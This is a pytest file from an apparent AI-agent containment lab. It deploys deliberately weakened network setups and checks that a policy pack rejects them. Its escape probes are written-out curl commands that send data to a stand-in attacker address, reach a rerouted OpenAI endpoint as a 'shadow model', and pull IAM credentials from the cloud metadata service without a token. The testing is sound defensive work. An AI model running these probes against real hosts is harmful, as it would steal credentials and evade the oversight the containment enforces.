"""The four holes that the policy pack refuses, deployed without it: each is shown by what escapes."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from containment_lab.home import LabHome
from containment_lab.internet.receipts import make_nonce
from containment_lab.linux.tools import list_missing
from containment_lab.network.control import LabNetwork
from tests.deployment.lab import Lab
from tests.deployment.world import arrived

pytestmark = [pytest.mark.slow, pytest.mark.namespaces, pytest.mark.skipif(bool(list_missing()), reason="; ".join(list_missing()))]
FOLDER = Path(__file__).parent / "holes"
CREDENTIALS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
VIOLATION = 3
RULE = {
    "public-ip": "agent-host-has-no-public-ip",
    "nat-route": "agent-subnet-has-no-nat-route",
    "missing-deny": "shadow-model-deny-comes-first",
    "wrong-order": "shadow-model-deny-comes-first",
    "imdsv1": "agent-host-requires-imdsv2",
}


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    own = Lab(tmp_path_factory.mktemp("holes"))
    try:
        yield own
    finally:
        own.down()


def sends(world: LabNetwork, *words: str) -> set[str]:
    """Send a nonce the way `curl` is told and return who has it then; in place of `NONCE` it stands in the command."""
    nonce = make_nonce()
    command = ["curl", "-sk", "-m", "3", *(word.replace("NONCE", nonce) for word in words)]
    subprocess.run(world.build_privileged_command(command), capture_output=True, check=False)
    return arrived(world, nonce)


def asked(world: LabNetwork, url: str) -> str:
    return subprocess.run(
        world.build_privileged_command(["curl", "-sf", "-m", "3", url]), capture_output=True, text=True, check=False
    ).stdout


def escapes(world: LabNetwork) -> dict[str, bool]:
    """Return which ways out there are: to an attacker on any port, to a shadow model, and the host's credentials without a token."""
    to_attacker = sends(world, "http://203.0.113.5:8080/NONCE")
    to_shadow = sends(world, "--resolve", "api.openai.com:443:198.19.1.1", "https://api.openai.com/NONCE")
    role = asked(world, CREDENTIALS)
    taken = asked(world, CREDENTIALS + role)
    held = world.send_command("status")["credential_nonces"].values()
    return {"attacker": bool(to_attacker), "shadow": bool(to_shadow), "credentials": any(nonce in taken for nonce in held)}


EXPECTED = {
    "none": {"attacker": False, "shadow": False, "credentials": False},
    "public-ip": {"attacker": True, "shadow": True, "credentials": False},
    "nat-route": {"attacker": True, "shadow": True, "credentials": False},
    "missing-deny": {"attacker": False, "shadow": True, "credentials": False},
    "wrong-order": {"attacker": False, "shadow": True, "credentials": False},
    "imdsv1": {"attacker": False, "shadow": False, "credentials": True},
}


@pytest.mark.long
@pytest.mark.parametrize("hole", EXPECTED)
def test_a_hole_is_shown_by_what_escapes_and_nothing_else_does(lab: Lab, hole: str) -> None:
    lab.must("up", "dev", "--config", f"hole={hole}", "--skip-preview", folder=FOLDER, pack=None)
    world = LabNetwork(LabHome(lab.home), "dev")
    world.bring_up()
    assert escapes(world) == EXPECTED[hole]


@pytest.mark.long
@pytest.mark.parametrize("hole", RULE)
def test_with_the_pack_on_it_is_refused(lab: Lab, hole: str) -> None:
    run = lab.run("preview", f"refused-{hole}", "--config", f"hole={hole}", folder=FOLDER)
    assert run.code == VIOLATION, run.talk
    assert RULE[hole] in {each["policy"] for each in run.report["violations"]}
